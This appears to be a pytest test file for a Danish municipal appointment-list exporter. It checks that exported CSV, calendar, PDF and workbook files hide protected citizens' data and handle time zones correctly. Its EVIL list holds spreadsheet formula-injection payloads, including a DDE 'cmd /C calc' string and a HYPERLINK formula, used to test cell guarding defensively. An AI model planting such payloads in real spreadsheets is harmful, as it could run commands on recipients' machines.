"""Appointment lists: what may stand in them, and that every reader reads them right."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from icalendar import Calendar

from fieldtui.base.clock import COPENHAGEN
from fieldtui.base.errors import BadUsage
from fieldtui.base.text import clean
from fieldtui.domain.envelope import Stored
from fieldtui.domain.records import Appointment, Attendance, Citizen
from fieldtui.export import COLUMNS, FORMATS, ListLine, file_name, line_of, render
from fieldtui.export.csv_list import guarded, unguarded
from fieldtui.wire.messages import Person
from tests.support.papers import parts_of_workbook, shown_in

MADE = datetime(2026, 11, 23, 8, 15, tzinfo=COPENHAGEN)
MONDAY, SUNDAY = date(2026, 11, 23), date(2026, 11, 29)
ID = "01968000-0000-7000-8000-000000000001"
CITIZEN_ID = "01968000-0000-7000-8000-0000000000c1"
MH = Person(id="01968000-0000-7000-8000-00000000000a", initials="MH", name="Mette Holm", role="consultant")


def read_calendar(text: str) -> Any:
    """The calendar as another program reads it; icalendar's own types allow every property to be anything."""
    return Calendar.from_ical(text)


# What a spreadsheet might take for a formula, in the forms that attackers have used.
EVIL = (
    '=HYPERLINK("https://x.example/?"&A1;"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1;1)", "|calc", "%0A=1", "＝1+1",
    "＋1", "－1", "＠SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1", "'=1", "''", "'", '"=1"', ";=1;",
    "=1;=2", '";=1', "=1\r\n=2", "\u2060+1", "\u3000-1", "+45 12 34 56 78", "0012", "1E9", "",
)  # fmt: skip


def an_appointment(**values: Any) -> Stored[Appointment]:
    body = {
        "citizen_id": CITIZEN_ID,
        "kind": "jobsamtale",
        "starts_at": "2026-11-24T10:00",
        "place": "Lokale 2",
    } | values
    return Stored(ID, Appointment.model_validate(body), rev=3, recorded_at=MADE)


def a_citizen(**values: Any) -> Stored[Citizen]:
    return Stored(
        CITIZEN_ID, Citizen.model_validate({"given_name": "Fatima Zahra", "family_name": "Al-Åbo"} | values), rev=1
    )


def listed(profile: Any, fmt: Any, *lines: ListLine) -> bytes:
    return render(lines, profile=profile, fmt=fmt, first=MONDAY, last=SUNDAY, made_at=MADE)


def rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_a_reception_list_has_danish_headings_dates_and_only_its_columns() -> None:
    line = line_of(an_appointment(), a_citizen(), MH, profile="reception")
    heading, row = rows(listed("reception", "csv", line))
    assert heading == ["Dato", "Uge", "Start", "Slut", "Lokale", "Konsulent", "Borger", "Reference", "Type"]
    assert row == ["24-11-2026", "48", "10:00", "10:45", "Lokale 2", "MH", "Fatima A.", line.reference, "Samtale"]


def test_my_own_list_has_the_phone_number_as_people_read_it_and_what_the_meeting_needs() -> None:
    line = line_of(
        an_appointment(practical_needs=["tolk"]),
        a_citizen(phone="+45 12345678", practical_needs=["kørestol"]),
        MH,
        profile="own",
    )
    assert dict(zip(*rows(listed("own", "csv", line)), strict=True)) == {
        "Dato": "24-11-2026", "Uge": "48", "Start": "10:00", "Slut": "10:45", "Lokale": "Lokale 2", "Borger": "Fatima A.",
        "Reference": line.reference, "Type": "Jobsamtale", "Praktiske behov": "kørestol, tolk", "Telefon": "12 34 56 78",
    }  # fmt: skip


@pytest.mark.parametrize("profile", ["reception", "own"])
def test_a_protected_citizen_stands_by_code_and_nothing_else(profile: Any) -> None:
    citizen = a_citizen(address_protected=True, call_code="K7Q4", phone="12345678", address="Hemmelig Vej 7")
    text = listed(profile, "csv", line_of(an_appointment(), citizen, MH, profile=profile)).decode()
    assert "K7Q4" in text
    for secret in ("Fatima", "Al-Åbo", "F. A", "12 34 56 78", "Hemmelig"):
        assert secret not in text


def test_a_protected_citizen_without_a_code_stands_by_the_reference() -> None:
    line = line_of(an_appointment(), a_citizen(address_protected=True), MH, profile="reception")
    assert line.citizen_label == line.reference


def test_a_meeting_about_treatment_looks_like_any_other_and_names_no_place() -> None:
    for profile in COLUMNS:
        for fmt in FORMATS[profile]:
            line = line_of(
                an_appointment(kind="brobygning", place="Ambulatorium Øst", title="Antabus"),
                a_citizen(),
                MH,
                profile=profile,
            )
            text = shown_in(listed(profile, fmt, line))
            assert line.reference in text
            for secret in ("Ambulatorium", "robygning", "Antabus"):
                assert secret not in text


def test_an_employer_meeting_names_no_citizen() -> None:
    line = line_of(
        an_appointment(kind="virksomhedsbesoeg", place="Café Solsort"), a_citizen(phone="12345678"), MH, profile="own"
    )
    text = listed("own", "csv", line).decode()
    assert "Café Solsort" in text
    assert "Fatima" not in text
    assert "12 34" not in text


def test_a_place_that_holds_the_citizens_address_is_not_named() -> None:
    citizen = a_citizen(address="Mozarts Plads 4, 2. tv")
    line = line_of(an_appointment(place="Hjemme: mozarts plads 4, 2. TV"), citizen, MH, profile="reception")
    assert line.place == "Ude af huset"


NEEDLES = st.text(st.sampled_from("abcdefghijkmnopqrstuvwxyzæøå"), min_size=12, max_size=16).map(
    lambda text: f"nål{text}"
)


def secretive(needle: str) -> tuple[Stored[Appointment], Stored[Citizen]]:
    """A meeting and its citizen with the needle in every field that no list may show."""
    citizen = a_citizen(
        given_name="Ali", family_name=f"D {needle}", cpr="6101900001", address=f"Vej {needle} 12", postal_code="2450",
        city=needle, benefit=needle, visitation_category=needle, job_goal=needle, considerations=needle,
        contact_preference=needle, discharge_reason=needle, district=needle, programme=needle, silence_reason=needle,
    )  # fmt: skip
    appointment = an_appointment(
        title=needle,
        status="no_show",
        status_reason=needle,
        contact_options=needle,
        due_on="2026-11-26",
        due_rule_id=needle,
    )
    return appointment, citizen


def assert_hidden(needle: str, fmts: set[str]) -> None:
    appointment, citizen = secretive(needle)
    for profile in COLUMNS:
        for fmt in fmts & set(FORMATS[profile]):
            line = line_of(appointment, citizen, MH, profile=profile)
            text = shown_in(listed(profile, fmt, line))
            assert line.reference in text
            for hidden in (needle, "610190", CITIZEN_ID, ID, "no_show", "deblev", "26-11-2026", "2026-11-26"):
                assert "".join(hidden.split()) not in "".join(text.split()), fmt


@given(needle=NEEDLES)
def test_no_list_shows_a_field_that_is_not_on_its_allow_list(needle: str) -> None:
    assert_hidden(needle, {"csv", "json", "ics"})


def test_no_paper_and_no_workbook_shows_one_either() -> None:
    assert_hidden("nålxæøåabcdefgh", {"pdf", "xlsx"})


def test_a_workbook_has_dates_times_and_texts_that_editing_makes_no_formula() -> None:
    line = replace(line_of(an_appointment(), a_citizen(), MH, profile="reception"), place="=1+1")
    parts = parts_of_workbook(listed("reception", "xlsx", line))
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert not any("<hyperlink" in part or "externalLink" in name for name, part in parts.items())
    assert "=1+1" in parts["xl/sharedStrings.xml"]
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]
    assert "<v>46350</v>" in sheet, "24-11-2026 as a day, not as a text"


def test_paper_has_the_heading_on_each_page_the_days_and_its_own_foot() -> None:
    line = line_of(an_appointment(), a_citizen(), MH, profile="reception")
    data = listed("reception", "pdf", *(replace(line, reference=f"R{number:03}") for number in range(60)))
    text = shown_in(data)
    assert "Aftaler 23-11-2026 - 29-11-2026" in text
    assert text.count("Lokale 2") == 60
    assert "Fortroligt - makuleres efter brug" in text
    assert text.count("Konsulent") >= 2
    for part in (b"/JavaScript", b"/JS", b"/Annots", b"/URI", b"/Launch"):
        assert part not in data


@pytest.mark.parametrize("text", EVIL)
def test_no_cell_can_begin_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = guarded(text)
    assert unguarded(cell) == text
    assert cell.lstrip("\ufeff\u200b\u200c\u200d\u2060\u00a0\u202f\u3000 ")[:1] not in set("=+-@\t\r\n|%＝＋－＠")


@given(text=st.text())
def test_guarding_a_cell_loses_nothing(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(place=st.text(max_size=60) | st.sampled_from(EVIL))
def test_any_place_survives_a_csv_file(place: str) -> None:
    line = replace(line_of(an_appointment(), a_citizen(), MH, profile="reception"), place=place)
    cell = rows(listed("reception", "csv", line))[1][4]
    assert unguarded(cell) == clean(place)


@given(place=st.text(max_size=200))
def test_any_place_survives_a_calendar_in_lines_of_at_most_75_octets(place: str) -> None:
    line = replace(line_of(an_appointment(), None, MH, profile="outlook"), place=place)
    data = listed("outlook", "ics", line)
    assert all(len(each) <= 75 for each in data.split(b"\r\n"))
    assert data.count(b"\n") == data.count(b"\r\n")
    event = read_calendar(data.decode()).walk("VEVENT")[0]
    assert str(event.get("LOCATION", "")) == clean(place)


STARTS = st.one_of(
    st.datetimes(datetime(2026, 3, 28), datetime(2026, 3, 30)),
    st.datetimes(datetime(2026, 10, 24, 20), datetime(2026, 10, 26)),
    st.datetimes(datetime(2027, 3, 27), datetime(2027, 3, 29)),
    st.datetimes(datetime(2025, 1, 1), datetime(2030, 12, 31)),
).map(lambda naive: naive.replace(second=0, microsecond=0, tzinfo=UTC))


@given(start=STARTS, minutes=st.integers(5, 600))
def test_a_calendar_gives_back_every_instant_also_over_both_clock_changes(start: datetime, minutes: int) -> None:
    line = replace(
        line_of(an_appointment(), None, MH, profile="outlook"),
        starts_at=start.astimezone(COPENHAGEN),
        ends_at=(start + timedelta(minutes=minutes)).astimezone(COPENHAGEN),
    )
    event = read_calendar(listed("outlook", "ics", line).decode()).walk("VEVENT")[0]
    assert event["DTSTART"].dt.astimezone(UTC) == start
    assert event["DTEND"].dt.astimezone(UTC) == start + timedelta(minutes=minutes)


def test_the_calendars_own_time_zone_block_knows_the_danish_offsets() -> None:
    zone = read_calendar(listed("outlook", "ics").decode()).walk("VTIMEZONE")[0].to_tz()
    for year in range(1997, 2038):
        for month, day, hour in ((1, 15, 12), (7, 15, 12), (3, 24, 12), (11, 1, 12)):
            wall = datetime(year, month, day, hour)
            assert wall.replace(tzinfo=zone).utcoffset() == wall.replace(tzinfo=COPENHAGEN).utcoffset(), wall


def test_an_event_is_private_neutral_and_invites_nobody() -> None:
    line = line_of(an_appointment(), a_citizen(), MH, profile="outlook")
    calendar = read_calendar(listed("outlook", "ics", line).decode())
    event = calendar.walk("VEVENT")[0]
    assert calendar["METHOD"] == "PUBLISH"
    assert event["SUMMARY"] == f"Aftale {line.reference}"
    assert event["CLASS"] == "PRIVATE"
    assert event["STATUS"] == "CONFIRMED"
    assert event["SEQUENCE"] == 3
    assert event["DTSTAMP"].dt == MADE.astimezone(UTC)
    for absent in ("DESCRIPTION", "ATTENDEE", "ORGANIZER", "CATEGORIES"):
        assert absent not in event
    assert ID not in str(event["UID"])


@pytest.mark.parametrize(
    "status", [Attendance.CANCELLED_CITIZEN, Attendance.CANCELLED_CITIZEN_LATE, Attendance.CANCELLED_STAFF]
)
def test_a_cancelled_appointment_is_taken_out_of_outlook_and_left_out_of_lists(status: Attendance) -> None:
    appointment = an_appointment(status=status)
    ics = listed("outlook", "ics", line_of(appointment, None, MH, profile="outlook"))
    assert read_calendar(ics.decode()).walk("VEVENT")[0]["STATUS"] == "CANCELLED"
    assert json.loads(listed("own", "json", line_of(appointment, a_citizen(), MH, profile="own"))) == []


def test_an_empty_list_says_so_in_every_form() -> None:
    assert rows(listed("reception", "csv"))[1] == ["Ingen aftaler"] + [""] * 8
    assert json.loads(listed("own", "json")) == []
    assert "Ingen aftaler" in shown_in(listed("own", "pdf"))
    assert "Ingen aftaler" in shown_in(listed("own", "xlsx"))
    calendar = read_calendar(listed("outlook", "ics").decode())
    assert calendar["X-WR-CALDESC"] == "Ingen aftaler"
    assert len(calendar.walk("VTIMEZONE")) == 1


def test_lines_stand_in_the_order_of_the_day_however_they_come() -> None:
    early = line_of(an_appointment(starts_at="2026-11-24T08:15"), a_citizen(), MH, profile="own")
    late = replace(
        line_of(an_appointment(starts_at="2026-11-24T14:30"), a_citizen(), MH, profile="own"), reference="AAAA"
    )
    assert [each["start"] for each in json.loads(listed("own", "json", late, early))] == ["08:15", "14:30"]


@pytest.mark.parametrize(
    ("profile", "fmt"),
    [
        ("outlook", "csv"),
        ("outlook", "json"),
        ("reception", "ics"),
        ("own", "ics"),
        ("outlook", "pdf"),
        ("outlook", "xlsx"),
        ("own", "docx"),
        ("leder", "csv"),
    ],
)
def test_what_does_not_go_together_is_refused_with_what_does(profile: Any, fmt: Any) -> None:
    with pytest.raises(BadUsage) as caught:
        render([], profile=profile, fmt=fmt, first=MONDAY, last=SUNDAY, made_at=MADE)
    known = FORMATS.get(profile, tuple(COLUMNS))
    assert known[0] in caught.value.message


@pytest.mark.parametrize(
    ("first", "last", "expected"),
    [
        (date(2026, 11, 24), date(2026, 11, 24), "samtaleliste_kvartershuset_2026-11-24_reception_v1.csv"),
        (MONDAY, SUNDAY, "samtaleliste_kvartershuset_2026-W48_reception_v1.csv"),
        (MONDAY, date(2026, 11, 27), "samtaleliste_kvartershuset_2026-W48_reception_v1.csv"),
        (date(2026, 12, 28), date(2027, 1, 3), "samtaleliste_kvartershuset_2026-W53_reception_v1.csv"),
        (date(2026, 11, 24), date(2026, 12, 3), "samtaleliste_kvartershuset_2026-11-24_2026-12-03_reception_v1.csv"),
    ],
)
def test_a_file_is_named_by_its_days_and_by_nobody(first: date, last: date, expected: str) -> None:
    assert file_name("reception", "csv", first, last) == expected
